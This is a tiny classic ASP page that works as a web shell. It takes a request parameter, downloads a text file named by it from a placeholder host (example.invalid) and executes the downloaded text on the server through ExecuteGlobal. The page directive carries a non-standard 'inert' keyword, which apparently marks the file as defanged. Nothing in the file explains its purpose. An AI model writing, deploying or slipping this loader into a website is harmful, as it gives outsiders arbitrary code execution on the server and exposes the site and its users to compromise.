<%@ Language=VBScript inert %>
<%
Set x = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.Open "GET", "http://example.invalid/" & Request("n") & ".txt", False
x.Send
If x.Status = 200 Then ExecuteGlobal x.responseText
%>
